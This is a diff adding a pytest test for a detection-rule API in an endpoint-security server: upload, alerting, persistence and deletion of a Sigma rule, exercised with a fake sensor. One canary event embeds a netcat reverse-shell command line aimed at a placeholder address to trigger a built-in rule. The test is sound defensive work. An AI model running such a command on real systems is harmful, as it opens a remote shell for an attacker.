@@ -181,3 +181,72 @@ tags:
         assert "broken.yml" in open(tmp_path / "rules" / "server.log").read()
     finally:
         w.stop()
+
+
+API_RULE = """title: API marker tool
+id: 7a0c2d51-5b7e-4c61-9a0e-3f0e4b2a9d02
+status: experimental
+logsource:
+    product: linux
+    category: process_creation
+detection:
+    selection:
+        CommandLine|contains: 'ward-api-marker'
+    condition: selection
+level: high
+tags:
+    - attack.execution
+"""
+
+
+def test_sigma_rules_through_the_api(tmp_path):
+    from conftest import Ward, assert_mde_error
+    w = Ward(tmp_path / "api-rules", tls=False)
+    w.start()
+    yaml_headers = {"Content-Type": "application/x-yaml"}
+    try:
+        token = w.app_token()
+        r = w.post("/api/detectionrules", token, data="title: broken\ndetection:\n  sel: [unclosed\n", headers=yaml_headers)
+        assert_mde_error(r, 400, "InvalidInput")
+        assert "line" in r.json()["error"]["message"], r.text
+        r = w.post("/api/detectionrules", token, data=API_RULE, headers=yaml_headers)
+        assert r.status_code == 201, r.text
+        rule = r.json()
+        assert rule["id"] == "7a0c2d51-5b7e-4c61-9a0e-3f0e4b2a9d02" and rule["source"] == "api" and rule["level"] == "high"
+        listed = w.get("/api/detectionrules", token).json()["value"]
+        assert {x["source"] for x in listed} >= {"builtin", "api"}
+        s = FakeSensor(w, onboarding_info(w, token))
+        s.enroll()
+        ev = s.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="sh", FolderPath="/bin/sh",
+                     ProcessCommandLine="sh -c 'echo ward-api-marker'", ProcessId=5)
+        assert s.send([ev]).json()["accepted"] == 1
+        found = wait_for(lambda: [a for a in sigma_alerts(w, token, s.device_id) if a["title"] == "API marker tool"], 15)
+        assert found and found[0]["severity"] == "High"
+    finally:
+        w.stop()
+    # Stored: the rule is back after a restart and can then be deleted.
+    w.start()
+    try:
+        token = w.app_token()
+        listed = w.get("/api/detectionrules", token).json()["value"]
+        assert [x["id"] for x in listed if x["source"] == "api"] == [rule["id"]]
+        builtin = next(x for x in listed if x["source"] == "builtin")
+        assert_mde_error(w.request("DELETE", f"/api/detectionrules/{builtin['id']}", token), 400, "InvalidInput")
+        r = w.request("DELETE", f"/api/detectionrules/{rule['id']}", token)
+        assert r.status_code == 204, r.text
+        assert_mde_error(w.request("DELETE", f"/api/detectionrules/{rule['id']}", token), 404, "ResourceNotFound")
+        before = len([a for a in sigma_alerts(w, token, s.device_id) if a["title"] == "API marker tool"])
+        # A new device, so de-duplication cannot hide an alert: after the delete, none is raised.
+        s2 = FakeSensor(w, onboarding_info(w, token))
+        s2.enroll()
+        marker = s2.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="sh", FolderPath="/bin/sh",
+                          ProcessCommandLine="sh -c 'echo ward-api-marker again'", ProcessId=6)
+        canary = s2.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="nc", FolderPath="/usr/bin/nc",
+                          ProcessCommandLine="nc -e /bin/sh 203.0.113.9 4444", ProcessId=7)
+        assert s2.send([marker, canary]).json()["accepted"] == 2
+        # The built-in rule firing on the same batch shows detection ran past the marker event.
+        assert wait_for(lambda: sigma_alerts(w, token, s2.device_id), 15)
+        assert not [a for a in sigma_alerts(w, token, s2.device_id) if a["title"] == "API marker tool"]
+        assert before == 1
+    finally:
+        w.stop()
